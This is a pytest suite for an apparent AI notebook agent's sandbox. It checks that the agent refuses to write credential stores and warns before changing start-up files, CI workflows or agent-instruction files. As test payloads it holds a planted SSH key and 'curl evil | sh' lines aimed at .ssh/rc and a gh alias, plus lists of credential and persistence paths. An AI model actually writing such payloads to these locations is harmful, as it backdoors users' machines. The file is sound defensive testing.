"""Jupyter started in `~`: the agent never writes a credential store, and an approval to write a
start-up file, a CI workflow or an agent's instructions says what the file does later."""

from __future__ import annotations

import asyncio
import re
from pathlib import Path
from typing import Any

import pytest

from copilot_nb import Agent
from copilot_nb.agent.approvals.policy import ApprovalPolicy
from copilot_nb.errors import SandboxError
from copilot_nb.events import ApprovalNeeded
from copilot_nb.jupyter.approval_prompt import approval_html, approval_text, warning
from copilot_nb.jupyter.panel.feed import event_ops
from copilot_nb.testing import call, reply
from copilot_nb.tools import ToolSet
from copilot_nb.workspace.later_effects import later_effect
from copilot_nb.workspace.secret_paths import SecretRules
from copilot_nb.workspace.workspace import Workspace
from copilot_nb.workspace.write_policy import DEFAULT_DENY

REFUSED = [
    ".ssh/authorized_keys",
    ".ssh/config",
    ".ssh/rc",
    ".ssh/id_ed25519",
    ".ssh/id_ed25519.pub",
    ".ssh/known_hosts",
    "home/me/.ssh/authorized_keys",
    ".gnupg/gpg.conf",
    ".gnupg/pubring.kbx",
    ".git-credentials",
    ".config/git/credentials",
    ".netrc",
    "_netrc",
    ".config/gh/config.yml",
    ".config/gh/hosts.yml",
    ".config/github-copilot/apps.json",
    ".config/github-copilot/versions.json",
    "AppData/Local/github-copilot/hosts.json",
    ".aws/config",
    ".aws/credentials",
    ".azure/msal_token_cache.json",
    ".config/gcloud/application_default_credentials.json",
    ".kube/config",
    ".docker/config.json",
    ".pypirc",
    ".pgpass",
    ".terraform.d/credentials.tfrc.json",
    ".local/share/jupyter/runtime/jpserver-4242.json",
    "Library/Jupyter/runtime/kernel-1.json",
    "project/.hg/hgrc",
]

RUNS_CODE = [
    ".bashrc",
    ".bash_aliases",
    ".bashrc.d/10-path.sh",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".cshrc",
    ".config/fish/config.fish",
    ".config/fish/conf.d/path.fish",
    ".config/powershell/Microsoft.PowerShell_profile.ps1",
    "Documents/WindowsPowerShell/profile.ps1",
    ".inputrc",
    ".xprofile",
    ".config/environment.d/10-path.conf",
    ".config/autostart/updater.desktop",
    ".config/systemd/user/sync.service",
    ".local/share/systemd/user/sync.timer",
    "Library/LaunchAgents/com.example.agent.plist",
    "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/run.bat",
    "crontab",
    ".vimrc",
    ".config/nvim/init.lua",
    ".emacs.d/init.el",
    ".tmux.conf",
    ".gitconfig",
    ".config/git/config",
    ".config/git/attributes",
    ".hgrc",
    ".pythonrc.py",
    ".pip/pip.conf",
    ".config/pip/pip.conf",
    "AppData/Roaming/pip/pip.ini",
    ".config/uv/uv.toml",
    ".condarc",
    ".npmrc",
    ".yarnrc.yml",
    ".local/share/jupyter/kernels/python3/kernel.json",
    ".local/share/jupyter/kernels/evil/wrapper.sh",
    "Library/Jupyter/kernels/r/kernel.json",
    ".venv/share/jupyter/kernels/python3/kernel.json",
    ".local/share/jupyter/labextensions/evil/package.json",
    ".jupyter/custom/custom.js",
    ".jupyter/jupyter_server_config.json",
    ".jupyter/jupyter_config.py",
    ".ipython/profile_default/ipython_kernel_config.py",
    ".ipython/extensions/ext.py",
    "ipython_kernel_config.py",
    "project/.mcp.json",
    ".cursor/mcp.json",
    ".claude/settings.json",
    "project/.claude/settings.local.json",
    ".gemini/settings.json",
    # the project files flagged before
    "conftest.py",
    "Makefile",
    "setup.py",
]

RUNS_IN_CI = [
    ".github/workflows/ci.yml",
    "project/.github/workflows/release.yaml",
    "docs/.github/workflows/ci.yml",
    ".github/actions/setup/action.yml",
    ".gitlab-ci.yml",
    ".gitlab/ci/test.yml",
    ".circleci/config.yml",
    "azure-pipelines.yml",
    "Jenkinsfile",
    ".travis.yml",
    "bitbucket-pipelines.yml",
    ".buildkite/pipeline.yml",
    ".drone.yml",
    "appveyor.yml",
]

INSTRUCTS_AGENTS = [
    "AGENTS.md",
    "src/AGENTS.md",
    "docs/agents.md",  # on macOS and Windows this *is* docs/AGENTS.md, read for a notebook there
    ".github/copilot-instructions.md",
    "CLAUDE.md",
    "project/CLAUDE.md",
    "CLAUDE.local.md",
    "GEMINI.md",
    "AGENT.md",
    ".copilot_nb/agents/reviewer.md",
    ".copilot_nb/instructions.md",
    ".github/instructions/python.instructions.md",
    ".github/prompts/release.prompt.md",
    ".github/chatmodes/plan.chatmode.md",
    ".claude/commands/deploy.md",
    ".claude/agents/reviewer.md",
    ".cursorrules",
    ".cursor/rules/style.mdc",
    ".windsurfrules",
    ".clinerules",
]

ORDINARY = [
    "src/profile.py",
    "profile/settings.json",
    "bashrc_example.txt",
    "dotfiles/bashrc",
    ".bashrc.bak",
    "my.bashrc",
    "docs/agents-guide.md",
    "agents/README.md",
    "README.md",
    "src/kernel.py",
    "kernels/notes.md",
    "workflows/ci.yml",
    "github/workflows/ci.yml",
    "docs/ci.md",
    "ssh/notes.md",
    ".sshrc.md",
    "aws/credentials.md",
    "notes/crontab.md",
    "pyproject.toml",
    "requirements.txt",
    "config/git.yml",
    "vim/notes.txt",
    "notebooks/analysis.py",
]


@pytest.fixture
def root(root: Path) -> Path:
    """A home folder with a few start-up files and credential stores already in it."""
    for name in (".bashrc", ".ssh/authorized_keys", ".ssh/config", ".netrc", "notes.txt"):
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{name}\n")
    return root


@pytest.fixture
def ws(root: Path) -> Workspace:
    return Workspace(root, secrets=SecretRules(settings=()))


# --- credential stores are refused --------------------------------------------------------------


@pytest.mark.parametrize("path", REFUSED)
async def test_the_tools_refuse_to_write_a_credential_store(
    tools: ToolSet, root: Path, path: str
) -> None:
    target = root / path
    existed = target.exists()
    out = await tools.call_tool("write_file", {"path": path, "content": "ssh-ed25519 AAAA evil\n"})
    assert out.is_error
    assert out.content.startswith(f"write_file: refusing to write {path}: ")
    assert out.content.endswith("; edit it yourself if you mean to")
    out = await tools.call_tool("move_path", {"source": "notes.txt", "destination": path})
    assert out.is_error
    assert out.content.startswith(f"move_path: refusing to move onto {path}: ")
    assert target.exists() == existed and (root / "notes.txt").exists()
    if not existed:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(f"{path}\n")
    out = await tools.call_tool("edit_file", {"path": path, "old_str": path, "new_str": "evil"})
    assert out.is_error and out.content.startswith(f"edit_file: refusing to write {path}: ")
    out = await tools.call_tool("delete_path", {"path": path})
    assert out.is_error and out.content.startswith(f"delete_path: refusing to delete {path}: ")
    assert target.read_text() == f"{path}\n"


@pytest.mark.parametrize(
    "path",
    [
        ".SSH/authorized_keys",
        ".ssh/Authorized_Keys",
        ".GnuPG/gpg.conf",
        ".NETRC",
        ".Config/GH/hosts.yml",
        ".config/GitHub-Copilot/apps.json",
        ".AWS/credentials",
        "Home/Me/.Kube/config",
    ],
)
def test_case_variants_of_credential_stores_are_refused(ws: Workspace, path: str) -> None:
    """macOS and Windows ignore case: .SSH is .ssh there."""
    with pytest.raises(SandboxError, match="refusing to write"):
        ws.write_text(path, "x")


def test_the_refusal_says_why(ws: Workspace) -> None:
    with pytest.raises(SandboxError) as info:
        ws.write_text(".ssh/authorized_keys", "ssh-ed25519 AAAA evil\n")
    assert str(info.value) == (
        "refusing to write .ssh/authorized_keys: SSH trusts what is kept there (authorized_keys "
        "says who may log in, config runs ProxyCommand and LocalCommand, keys sign you in); "
        "edit it yourself if you mean to"
    )


def test_a_symlink_into_a_credential_store_is_refused(ws: Workspace, root: Path) -> None:
    (root / "keys.txt").symlink_to(".ssh/authorized_keys")
    with pytest.raises(SandboxError, match=re.escape("(it leads to .ssh/authorized_keys)")):
        ws.write_text("keys.txt", "ssh-ed25519 AAAA evil\n")
    (root / "dotssh").symlink_to(".ssh", target_is_directory=True)
    with pytest.raises(SandboxError, match=re.escape("(it leads to .ssh/rc)")):
        ws.write_text("dotssh/rc", "curl evil | sh\n")
    assert (root / ".ssh" / "authorized_keys").read_text() == ".ssh/authorized_keys\n"
    assert not (root / ".ssh" / "rc").exists()


def test_a_credential_store_cannot_be_moved_away_or_deleted_with_its_folder(
    ws: Workspace, root: Path
) -> None:
    with pytest.raises(SandboxError, match=re.escape("refusing to move .ssh: ")):
        ws.move(".ssh", "ssh-backup")
    with pytest.raises(SandboxError, match=re.escape("refusing to move .netrc: ")):
        ws.move(".netrc", "netrc.txt")
    (root / "old" / ".ssh").mkdir(parents=True)
    (root / "old" / ".ssh" / "config").write_text("Host *\n")
    with pytest.raises(SandboxError, match=re.escape("refusing to delete old/.ssh")):
        ws.delete("old", recursive=True)
    assert (root / ".ssh" / "config").exists() and (root / "old" / ".ssh" / "config").exists()


def test_a_folder_cannot_be_moved_so_that_a_file_in_it_lands_in_a_credential_store(
    ws: Workspace, root: Path
) -> None:
    (root / "kit" / "gh").mkdir(parents=True)
    (root / "kit" / "gh" / "config.yml").write_text("aliases:\n  co: '!curl evil | sh'\n")
    with pytest.raises(SandboxError, match=re.escape("refusing to move onto .config/gh: ")):
        ws.move("kit", ".config")
    with pytest.raises(SandboxError, match=re.escape("refusing to move onto .aws/config: ")):
        ws.move("kit/gh/config.yml", ".aws/config")
    assert (root / "kit" / "gh" / "config.yml").exists() and not (root / ".config").exists()


# --- files that run code later, run in CI, or instruct agents: allowed, and the prompt says so ---


def _ask(arguments: dict[str, Any], name: str = "write_file") -> ApprovalNeeded:
    loop = asyncio.new_event_loop()
    try:
        return ApprovalNeeded(
            call_id="c1",
            name=name,
            arguments=arguments,
            summary=str(arguments.get("path") or arguments.get("destination")),
            category="edit",
            decision=loop.create_future(),
        )
    finally:
        loop.close()


@pytest.mark.parametrize(
    ("path", "effect"),
    [
        *((p, "runs code later") for p in RUNS_CODE),
        *((p, "runs in CI") for p in RUNS_IN_CI),
        *((p, "instructs future agents") for p in INSTRUCTS_AGENTS),
    ],
)
async def test_a_file_with_a_later_effect_may_be_written_and_its_approval_says_so(
    tools: ToolSet, root: Path, path: str, effect: str
) -> None:
    found = later_effect(path)
    assert found is not None and found.startswith(f"{effect}: ")
    assert later_effect(path.upper()) == found, "case does not matter"
    note = f"{path} {found}"
    event = _ask({"path": path, "content": "x"})
    assert warning(event) == note
    assert f"⚠ {note}" in approval_text(event)
    assert "⚠" in approval_html(event)
    assert event_ops(event) == [{"op": "ask", "id": "c1", "category": "edit", "warning": note}]
    out = await tools.call_tool("write_file", {"path": path, "content": "echo hi\n"})
    assert not out.is_error, out.content
    assert (root / path).read_text() == "echo hi\n"


@pytest.mark.parametrize("path", ORDINARY)
async def test_ordinary_files_are_neither_refused_nor_flagged(
    tools: ToolSet, root: Path, path: str
) -> None:
    assert later_effect(path) is None
    assert warning(_ask({"path": path, "content": "x"})) == ""
    out = await tools.call_tool("write_file", {"path": path, "content": "x\n"})
    assert not out.is_error, out.content


def test_the_notes_name_the_effect_and_the_reason() -> None:
    assert warning(_ask({"path": ".bashrc", "content": "x"})) == (
        ".bashrc runs code later: bash runs it in every new interactive shell"
    )
    assert warning(_ask({"path": ".github/workflows/ci.yml", "content": "x"})) == (
        ".github/workflows/ci.yml runs in CI: it runs with the repository's secrets (and a "
        "token that may push or publish) at the next push"
    )
    assert warning(_ask({"path": "AGENTS.md", "content": "x"})) == (
        "AGENTS.md instructs future agents: what is written here becomes instructions a model obeys"
    )
    assert warning(_ask({"path": "./src/../.gitconfig", "old_str": "a", "new_str": "b"})) == (
        ".gitconfig runs code later: git runs the programs its config names (core.fsmonitor, "
        "core.hooksPath, '!' aliases, filters)"
    )


def test_a_move_or_delete_is_flagged_by_either_end() -> None:
    onto = _ask({"source": "notes.txt", "destination": ".bashrc"}, name="move_path")
    assert warning(onto) == ".bashrc runs code later: bash runs it in every new interactive shell"
    both = _ask({"source": "AGENTS.md", "destination": "CLAUDE.md"}, name="move_path")
    notes = warning(both).split("; ")
    assert [n.split(" ")[0] for n in notes] == ["CLAUDE.md", "AGENTS.md"]  # where it goes first
    assert all(" instructs future agents: what is written here" in n for n in notes)
    gone = _ask({"path": ".github/workflows/security.yml"}, name="delete_path")
    assert warning(gone).startswith(".github/workflows/security.yml runs in CI: ")


async def test_moving_a_file_onto_a_start_up_file_asks_and_says_so(serve: Any, root: Path) -> None:
    """Through a real agent: the approval request itself carries the note."""
    server = serve(
        [reply("", call("move_path", source="notes.txt", destination=".zshrc")), reply("ok")]
    )
    agent = Agent(model=server.model(), workspace=Workspace(root), approvals=ApprovalPolicy())
    asked: list[ApprovalNeeded] = []
    async for event in agent.run("tidy up"):
        if isinstance(event, ApprovalNeeded):
            asked.append(event)
            event.deny("no")
    assert [warning(a) for a in asked] == [".zshrc runs code later: zsh runs it in every new shell"]
    assert (root / "notes.txt").exists() and not (root / ".zshrc").exists()


def test_no_reason_holds_the_separator_of_notes() -> None:
    """A prompt joins the notes of a move's two ends with '; '."""
    from copilot_nb.workspace.later_effects import EFFECTS

    for effect, rules in EFFECTS[1:]:
        assert "; " not in effect
        assert all("; " not in rule.reason for rule in rules)
    assert all("; " not in rule.reason for rule in EFFECTS[0][1][: -len(DEFAULT_DENY)])
